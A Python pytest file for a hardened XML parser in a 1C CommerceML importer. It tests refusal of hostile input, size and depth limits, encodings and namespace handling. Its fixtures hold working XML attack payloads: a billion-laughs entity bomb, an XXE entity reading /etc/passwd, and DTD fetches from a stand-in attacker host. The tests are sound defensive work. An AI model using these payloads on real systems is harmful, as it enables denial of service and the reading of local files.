"""Safe XML: hostile documents are refused with a reason; real 1C encodings are honoured."""
from __future__ import annotations

import pytest

from importers.onec.safexml import BadXML, HostileXML, XMLTooDeep, XMLTooLarge, element_lines, parse_xml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<КоммерческаяИнформация><Документ><Ид>&lol9;</Ид></Документ></КоммерческаяИнформация>""".encode()

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r><Id>&xxe;</Id></r>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<r/>"""

DTD_ONLY = """<?xml version="1.0"?>
<!DOCTYPE КоммерческаяИнформация SYSTEM "http://attacker.invalid/cml.dtd">
<r/>""".encode()


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, XXE_PARAMETER, DTD_ONLY],
                         ids=["billion-laughs", "xxe", "xxe-parameter", "dtd-only"])
def test_hostile_documents_are_refused_with_a_reason(data):
    with pytest.raises(HostileXML) as caught:
        parse_xml(data)
    assert "DTD" in caught.value.reason


def test_entity_reference_without_declaration_is_bad_xml():
    with pytest.raises(BadXML, match="entities are not allowed"):
        parse_xml(b"<r>&nbsp;</r>")


def test_oversized_document_is_refused_before_parsing():
    data = b"<r>" + b"x" * 2000 + b"</r>"
    with pytest.raises(XMLTooLarge, match="over the limit of 1000 bytes"):
        parse_xml(data, max_bytes=1000)
    assert parse_xml(data, max_bytes=3000) == {"r": "x" * 2000}


def test_too_deep_document_is_refused():
    data = b"<a>" * 60 + b"</a>" * 60
    with pytest.raises(XMLTooDeep, match="deeper than 50"):
        parse_xml(data, max_depth=50)
    assert parse_xml(data, max_depth=60)["a"] is not None


def test_malformed_document_reports_line():
    with pytest.raises(BadXML, match="line 2"):
        parse_xml(b"<r>\n<a></b></r>")


@pytest.mark.parametrize("data", [b"", b"   \n", b"not xml"])
def test_empty_or_garbage_is_bad_xml(data):
    with pytest.raises(BadXML):
        parse_xml(data)


def test_windows_1251_declared_in_the_prolog_is_honoured():
    text = '<?xml version="1.0" encoding="windows-1251"?><r><Ид>Заказ №1 «Кофе»</Ид></r>'
    assert parse_xml(text.encode("cp1251")) == {"r": {"Ид": "Заказ №1 «Кофе»"}}


@pytest.mark.parametrize("prefix", [b"", b"\xef\xbb\xbf"], ids=["no-bom", "bom"])
def test_utf8_with_and_without_bom(prefix):
    data = prefix + '<?xml version="1.0" encoding="UTF-8"?><r>Проведен</r>'.encode()
    assert parse_xml(data) == {"r": "Проведен"}
    assert parse_xml(prefix + "<r>Проведен</r>".encode()) == {"r": "Проведен"}


def test_cp1251_bytes_declared_as_utf8_give_an_encoding_hint():
    data = '<?xml version="1.0" encoding="UTF-8"?><r>Привет</r>'.encode("cp1251")
    with pytest.raises(BadXML, match="encoding declared"):
        parse_xml(data)


def test_single_repeating_element_is_still_a_list():
    one = parse_xml("<r><Документ><Ид>1</Ид></Документ></r>".encode())
    two = parse_xml("<r><Документ><Ид>1</Ид></Документ><Документ><Ид>2</Ид></Документ></r>"
                    .encode())
    assert one["r"]["Документ"] == [{"Ид": "1"}]
    assert [d["Ид"] for d in two["r"]["Документ"]] == ["1", "2"]


def test_namespace_prefixes_are_dropped_and_root_is_checked():
    data = ('<c:Info xmlns:c="urn:1C.ru:commerceml_3">'
            '<c:Документ><c:Ид>7</c:Ид></c:Документ></c:Info>')
    tree = parse_xml(data.encode())
    assert tree["Info"]["Документ"] == [{"Ид": "7"}]
    with pytest.raises(BadXML, match="expected <КоммерческаяИнформация>"):
        parse_xml(data.encode(), root="КоммерческаяИнформация")


def test_non_bytes_are_refused():
    with pytest.raises(BadXML):
        parse_xml("<r/>")  # type: ignore[arg-type]


def test_element_lines_point_at_each_top_level_document():
    data = ("<r>\n<Документ>\n<Документ/>\n</Документ>\n<Контейнер>\n<Документ/>\n"
            "</Контейнер>\n<Документ/>\n</r>").encode()
    lines = element_lines(data, {("Документ",), ("Контейнер", "Документ")})
    assert lines == {("Документ",): [2, 8], ("Контейнер", "Документ"): [6]}
